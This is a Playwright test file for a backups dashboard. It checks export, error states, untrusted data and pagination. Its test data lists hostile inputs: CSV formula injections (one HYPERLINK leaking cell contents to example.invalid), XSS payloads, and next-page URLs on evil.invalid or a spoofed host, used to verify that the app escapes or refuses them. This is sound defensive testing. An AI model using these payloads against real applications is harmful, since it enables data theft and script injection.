    const link = page.getByRole('navigation', { name: 'Views', exact: true }).getByRole('link', { name: 'Backups', exact: true });
    await expect(link).toHaveAttribute('aria-current', 'page');
    await link.click();
    await expect(heading(page, 'Backups')).toBeVisible();
    await expect(table(page)).toBeVisible();
  });

  test('"Skip to content" takes the keyboard past the header', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full, './?sort=id');
    await page.keyboard.press('Tab');
    while (!(await page.getByRole('link', { name: 'Skip to content' }).evaluate((link) => link === document.activeElement))) await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Enter');
    await expect(page.getByRole('main')).toBeFocused();
    expect(new URL(page.url()).search).toBe('?sort=id');
  });
});

test.describe('language and theme', () => {
  test('are remembered over a reload and a sign-out', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await choice(page, 'Theme').selectOption('Dark');
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    await choice(page, 'Language').selectOption('ar');
    await expect(page.locator('html')).toHaveAttribute('dir', 'rtl');
    await expect(page.locator('html')).toHaveAttribute('lang', 'ar');
    await page.reload();
    await expect(page.getByRole('table')).toBeVisible();
    await expect(page.locator('html')).toHaveAttribute('dir', 'rtl');
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    await page.getByRole('banner').getByRole('button').last().click();
    await expect(page.getByRole('table')).toBeHidden();
    await expect(page.locator('html')).toHaveAttribute('dir', 'rtl');
    await page.getByRole('combobox').first().selectOption('en');
    await expect(page.locator('html')).toHaveAttribute('dir', 'ltr');
    await expect(heading(page, 'Sign in')).toBeVisible();
  });

  test('what was typed stays when the language changes', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await search(page).fill('pre');
    await choice(page, 'Language').selectOption('ar');
    await expect(page.getByRole('searchbox')).toHaveValue('pre');
    await expect(page.getByRole('table').getByRole('checkbox')).toHaveCount(3);
  });
});

test.describe('"Export"', () => {
  async function exported(page: Page, kind: 'CSV' | 'JSON') {
    await button(page, 'Export').click();
    const download = page.waitForEvent('download');
    await button(page, kind).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(new RegExp(`^[\\w.-]+\\.${kind.toLowerCase()}$`));
    return readFile(await file.path());
  }
  const HOSTILE = ['=HYPERLINK("https://example.invalid/?"&A1,"Click")', '+1+1', '-2+3 cells', '@SUM(A1:A9)', '\t=1+1', ' =1+1'];

  test('CSV: a BOM, the shown rows only, in their order', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full, './?sort=id&backup_type=manual');
    const csv = await exported(page, 'CSV');
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.subarray(3).toString().trimEnd().split('\r\n');
    expect(lines.length).toBe(3);
    expect(lines[1]).toMatch(/^499,12345,web-server-01,manual,completed,4450,2025-01-14T10:30:00Z,,Pre-update backup$/);
    expect(lines[2]).toMatch(/^502,12345,web-server-01,manual,in_progress,,2025-01-16T14:30:00Z,,Pre-deployment backup$/);
  });

  test('CSV: no cell is a formula', async ({ page, emulator }) => {
    await emulator.addBackups([...HOSTILE.entries()].map(([index, description]) => backup(600 + index, { description, server: { id: 9, name: description } })));
    await signIn(page, emulator.tokens.full, './?sort=id&server_id=9');
    const lines = (await exported(page, 'CSV')).toString().trimEnd().split('\r\n').slice(1);
    expect(lines.length).toBe(HOSTILE.length);
    for (const [index, line] of lines.entries()) {
      const guarded = `'${HOSTILE[index]?.replaceAll('"', '""')}`;
      expect(line.split(guarded).length, line).toBe(3);
      for (const start of ['=', '+', '-', '@']) {
        expect(line).not.toContain(`,${start}`);
        expect(line).not.toContain(`,"${start}`);
      }
    }
  });

  test('CSV: commas, quotes and lines stay in their cell', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { description: 'keep, "final"\nsecond line' })]);
    await signIn(page, emulator.tokens.full, './?q=final');
    expect((await exported(page, 'CSV')).toString()).toContain(',"keep, ""final""\nsecond line"\r\n');
  });

  test('JSON: the shown rows only, as the API wrote them', async ({ page, emulator }) => {
    await emulator.addBackups([backup(600, { description: '=1+1 "ışık"\n<b>' })]);
    await signIn(page, emulator.tokens.full, './?sort=-id&backup_type=manual');
    const json = JSON.parse((await exported(page, 'JSON')).toString()) as { id: number }[];
    expect(json.map((row) => row.id)).toEqual([600, 502, 499]);
    expect(json[0]).toEqual(backup(600, { description: '=1+1 "ışık"\n<b>' }));
    expect(json[1]).toMatchObject({ server: { id: 12345, name: 'web-server-01' }, status: 'in_progress', size_mb: null, expires_at: null });
  });

  test('all rows that are shown, also those that are not on the page', async ({ page, emulator }) => {
    await emulator.reset({ seed: 'large=2000' });
    await signIn(page, emulator.tokens.full);
    expect((JSON.parse((await exported(page, 'JSON')).toString()) as unknown[]).length).toBe(2000);
  });

  test('Escape leaves without a file, and by keyboard it works', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    let count = 0;
    page.on('download', () => void (count += 1));
    await button(page, 'Export').press('Enter');
    await expect(button(page, 'CSV')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(button(page, 'CSV')).toBeHidden();
    expect(count).toBe(0);
    await button(page, 'Export').press('Enter');
    const download = page.waitForEvent('download');
    await button(page, 'JSON').press('Enter');
    await download;
    await expect(button(page, 'JSON')).toBeHidden();
    expect(count).toBe(1);
  });
});

test.describe('instead of rows', () => {
  test('still loading: said, with skeleton rows, after half a second', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await emulator.faults({ endpoint: 'list', delay_ms: 2500 });
    await page.clock.install();
    await page.reload();
    await expect(page.getByText('Loading backups…')).toBeAttached();
    const skeleton = page.locator('[aria-busy="true"] > [aria-hidden="true"]');
    await page.clock.pauseAt(Date.now() + 60_000);
    await page.reload();
    await expect(page.locator('[aria-busy="true"]')).toBeAttached();
    await page.clock.runFor(450);
    await expect(skeleton).toHaveCount(0);
    await expect(page.getByText('Loading backups…')).toHaveCount(0);
    await page.clock.runFor(100);
    await expect(page.getByText('Loading backups…')).toBeAttached();
    await expect(skeleton.first()).toBeVisible();
    await expect(heading(page, 'No backups yet')).toBeHidden();
    await page.clock.resume();
    await expect(table(page)).toBeVisible();
    await expect(skeleton).toHaveCount(0);
  });

  test('none yet: offers to create one', async ({ page, emulator }) => {
    for (const id of [501, 502, 499]) await emulator.removeBackup(id);
    await signIn(page, emulator.tokens.full);
    await expect(heading(page, 'No backups yet')).toBeVisible();
    await expect(table(page)).toBeHidden();
    // There are servers, and each needs one.
    await expect(page.getByText('0 servers')).toBeHidden();
    await expect(page.getByRole('link', { name: '2 servers need attention' })).toBeVisible();
    await expect(statusLine(page)).toContainText('Showing 0 of 0 backups · 0 MB');
    await expect(page.getByText('Updated just now')).toBeVisible();
    await button(page, 'Create backup').click();
    await expect(dialog(page, 'Create backup')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(dialog(page, 'Create backup')).toBeHidden();
    await expect(heading(page, 'No backups yet')).toBeVisible();
  });

  test('nothing matches: offers to clear the filters', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full, './?q=nowhere&status=failed');
    await expect(heading(page, 'Nothing matches')).toBeVisible();
    await expect(statusLine(page)).toContainText('Showing 0 of 3 backups');
    await button(page, 'Clear filters').click();
    await expect.poll(() => ids(page)).toEqual([502, 501, 499]);
    await expect(search(page)).toHaveValue('');
  });

  for (const [what, kind, said, log] of [
    ['a failing API', { status: { status: 500, body: { detail: 'The database is away.' } } }, 'The database is away.', logged(500)],
    ['a proxy\'s HTML', { status: { status: 502, body: '<h1>Bad Gateway</h1>' } }, '502', logged(502)],
    ['a broken connection', 'reset_before', 'network', LOST],
    ['something else', { body: { results: 5 } }, 'could not be read', /^$/],
    ['a list that goes on elsewhere', 'next_elsewhere', 'evil.invalid', /^$/],
  ] as const) {
    test(`could not load because of ${what}: the reason, and "Try again"`, async ({ page, emulator, allowConsole }) => {
      allowConsole(log);
      await signIn(page, emulator.tokens.full);
      await emulator.faults({ endpoint: 'list', kind });
      await page.reload();
      await expect(heading(page, 'The backups could not be loaded')).toBeVisible();
      await expect(page.getByRole('alert')).toContainText(said);
      await expect(page.getByRole('alert')).not.toContainText('<h1>');
      await expect(heading(page, 'No backups yet')).toBeHidden();
      await emulator.clearFaults();
      await button(page, 'Try again').click();
      await expect.poll(() => ids(page)).toEqual([502, 501, 499]);
      await expect(page.getByRole('alert')).toBeHidden();
    });
  }
});

test.describe('odd data', () => {
  const HOSTILE = ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '&lt;b&gt; &amp;', '{{7*7}} ${7*7}', 'javascript:alert(1)', '" onmouseover="alert(1)', '\u202Egnp.exe', '𝔘𝔫𝔦 👩‍💻 移行'];

  test('hostile names and descriptions are text, in rows and in dialogs', async ({ page, emulator }) => {
    page.on('dialog', () => { throw new Error('a script ran'); });
    await emulator.addBackups([...HOSTILE.entries()].flatMap(([index, text]) => [600, 700].map((base) =>
      backup(base + index, { server: { id: 20_000 + index, name: text }, description: text, status: base === 600 ? 'completed' : text, backup_type: base === 600 ? 'manual' : text }))));
    await signIn(page, emulator.tokens.full);
    for (const [index, text] of HOSTILE.entries()) {
      await expect(await cell(page, 600 + index, 'Description')).toHaveText(text);
      await expect(await cell(page, 600 + index, 'Server')).toContainText(text);
      await expect(await cell(page, 700 + index, 'Status')).toHaveText(text);
      await expect(await cell(page, 700 + index, 'Type')).toContainText(text);
      await button(page, `Restore backup ${600 + index}`).click();
      await expect(heading(page.getByRole('dialog'), `Restore ${text}`)).toBeVisible();
      await page.keyboard.press('Escape');
      await button(page, `Delete backup ${600 + index}`).click();
      await expect(page.getByRole('dialog')).toContainText(text);
      await page.keyboard.press('Escape');
      await expect(page.getByRole('dialog')).toBeHidden();
    }
    await expect(table(page).locator('img, script, b')).toHaveCount(0);
  });

  test('the whole demo account, with its names in many scripts', async ({ page, emulator }) => {
    await emulator.reset({ seed: 'demo' });
    await signIn(page, emulator.tokens.full);
    await expect(statusLine(page)).toContainText(/Showing (\d+) of \1 backups/);
    for (const name of ['İstanbul-ışık', 'خادم-النسخ-الاحتياطي', 'պահուստ-սերվեր', '<b onmouseover=alert(1)>prod</b>']) {
      await search(page).fill(name);
      expect((await column(page, 'Server')).every((text) => text.includes(name)), name).toBe(true);
      expect((await ids(page)).length, name).toBeGreaterThan(0);
    }
  });

  test('rows that cannot be read are counted, and hide nobody', async ({ page, emulator }) => {
    await emulator.faults({ endpoint: 'list', kind: 'malformed_rows' });
    await signIn(page, emulator.tokens.full);
    for (const id of [501, 502, 499]) await expect(row(page, id)).toBeVisible();
    const shown = Number(/Showing (\d+) of/.exec(await statusLine(page).innerText())?.[1]);
    const unread = Number(/(\d+) rows could not be read/.exec(await page.getByText(/rows could not be read/).innerText())?.[1]);
    expect(shown).toBeGreaterThanOrEqual(3 + 15);
    expect(shown + unread).toBe(34);
    for (const name of ['ID', 'Server', 'Type', 'Status', 'Size', 'Created', 'Expires', 'Description']) {
      await button(table(page), name).click();
      await expect(statusLine(page)).toContainText(`Showing ${shown} of`);
    }
    await search(page).fill('odd row 90026');
    await expect.poll(() => ids(page)).toEqual([90026]);
  });

  test('a count that is wrong changes nothing', async ({ page, emulator }) => {
    await emulator.faults({ endpoint: 'list', kind: { merge: { count: 9, next: null, surprise: [] } } });
    await signIn(page, emulator.tokens.full);
    await expect(statusLine(page)).toContainText('Showing 3 of 3');
    await expect(page.getByRole('alert')).toBeHidden();
  });

  test('the same backup twice is shown once', async ({ page, emulator }) => {
    const twice = backup(501, { description: 'twice' });
    await emulator.faults({ endpoint: 'list', kind: { merge: { results: [twice, twice] } } });
    await signIn(page, emulator.tokens.full);
    await expect.poll(() => ids(page)).toEqual([501]);
  });
});

test.describe('long lists', () => {
  test('at most 200 rows are on the page, and the last is reached', async ({ page, emulator }) => {
    await emulator.reset({ seed: 'large=2000' });
    await withoutPolls(emulator);
    await signIn(page, emulator.tokens.full);
    await expect(statusLine(page)).toContainText('Showing 2,000 of 2,000 backups');
    await expect(table(page)).toHaveAttribute('aria-rowcount', '2001');
    expect(await rows(page).count()).toBeLessThanOrEqual(200);
    await button(table(page), 'ID').click();
    await expect(row(page, 100_001)).toBeInViewport();
    await expect(row(page, 100_001)).toHaveAttribute('aria-rowindex', '2');
    await table(page).press('End');
    await expect(row(page, 102_000)).toBeInViewport();
    await expect(row(page, 102_000)).toHaveAttribute('aria-rowindex', '2001');
    expect(await rows(page).count()).toBeLessThanOrEqual(200);
    await page.keyboard.press('Home');
    await expect(row(page, 100_001)).toBeInViewport();
  });

  test('every row comes by as one pages down', async ({ page, emulator }) => {
    await emulator.reset({ seed: 'large=300' });
    await withoutPolls(emulator);
    await signIn(page, emulator.tokens.full, './?sort=id');
    await expect(statusLine(page)).toContainText('Showing 300 of 300');
    const seen = new Set<number>();
    await table(page).focus();
    for (let step = 0; step < 60 && !seen.has(100_300); step += 1) {
      for (const id of await ids(page)) seen.add(id);
      const before = await page.evaluate(() => scrollY);
      await page.mouse.wheel(0, 600);
      await expect.poll(() => page.evaluate(() => scrollY === document.documentElement.scrollHeight - innerHeight ? Infinity : scrollY)).toBeGreaterThan(before);
      await expect.poll(() => rows(page).last().evaluate((last) => last.getBoundingClientRect().bottom >= innerHeight || last.getAttribute('aria-rowindex') === '301')).toBe(true);
    }
    expect(seen.size).toBe(300);
  });

  test('pages are followed to the end, all on the API\'s own origin', async ({ page, emulator }) => {
    await emulator.reset({ seed: 'large=2000', page_size: 500 });
    await withoutPolls(emulator);
    await signIn(page, emulator.tokens.full);
    await expect(statusLine(page)).toContainText('Showing 2,000 of 2,000 backups');
    const asked = await emulator.requests('list');
    expect(asked.length).toBe(4);
    expect(new Set(asked.map((request) => request.query)).size).toBe(4);
  });

  test('pages of two', async ({ page, emulator }) => {
    await emulator.settings({ page_size: 2 });
    await signIn(page, emulator.tokens.full);
    await expect.poll(() => ids(page)).toEqual([502, 501, 499]);
    await expect(table(page)).toHaveAttribute('aria-rowcount', '4');
  });

  test('a next that is neither text nor null: a part is not shown as whole', async ({ page, emulator }) => {
    await signIn(page, emulator.tokens.full);
    await expect(table(page)).toBeVisible();
    await emulator.addBackups([backup(600)]);
    await emulator.faults({ endpoint: 'list', kind: { merge: { next: 2 } } });
    await button(page, 'Refresh').click();
    await expect(page.getByRole('alert').filter({ hasText: 'Could not refresh.' })).toContainText('could not be read (at “next”)');
    await expect(statusLine(page)).toContainText('Showing 3 of 3');
  });

  test('a page in the middle that fails: nothing half is shown as whole', async ({ page, emulator, allowConsole }) => {
    allowConsole(logged(500));
    await emulator.settings({ page_size: 2 });
    await signIn(page, emulator.tokens.full);
    await expect(table(page)).toBeVisible();
    await emulator.faults({ endpoint: 'list', kind: { status: { status: 500 } }, skip: 1 });
    await page.reload();
    await expect(heading(page, 'The backups could not be loaded')).toBeVisible();
    await expect(table(page)).toBeHidden();
  });

  for (const [what, next] of [
    ['another host', 'https://evil.invalid/api/v1/backups/?page=2'],
    ['another host without a scheme', '//evil.invalid/api/v1/backups/?page=2'],
    ['another port', 'http://127.0.0.1:9/api/v1/backups/?page=2'],
    ['a host that only looks alike', 'http://127.0.0.1@evil.invalid/api/v1/backups/'],
    ['a script', 'javascript:alert(1)'],
    ['itself', LIST_PATH],
  ] as const) {
    test(`a next page at ${what} is refused with a message, and not asked`, async ({ page, emulator }) => {
      await signIn(page, emulator.tokens.full);
      const hosts = new Set<string>();
      page.on('request', (request) => void hosts.add(new URL(request.url()).host));
      await emulator.clearRequests();
      await emulator.faults({ endpoint: 'list', kind: { merge: { next } } });
      await page.reload();
      await expect(heading(page, 'The backups could not be loaded')).toBeVisible();
      await expect(page.getByRole('alert')).toContainText(/evil\.invalid|127\.0\.0\.1:9|javascript|could not be read|goes on/);
      expect([...hosts]).toEqual([new URL(emulator.address).host]);
      expect((await emulator.requests('list')).length).toBeLessThanOrEqual(3);
    });
  }
});
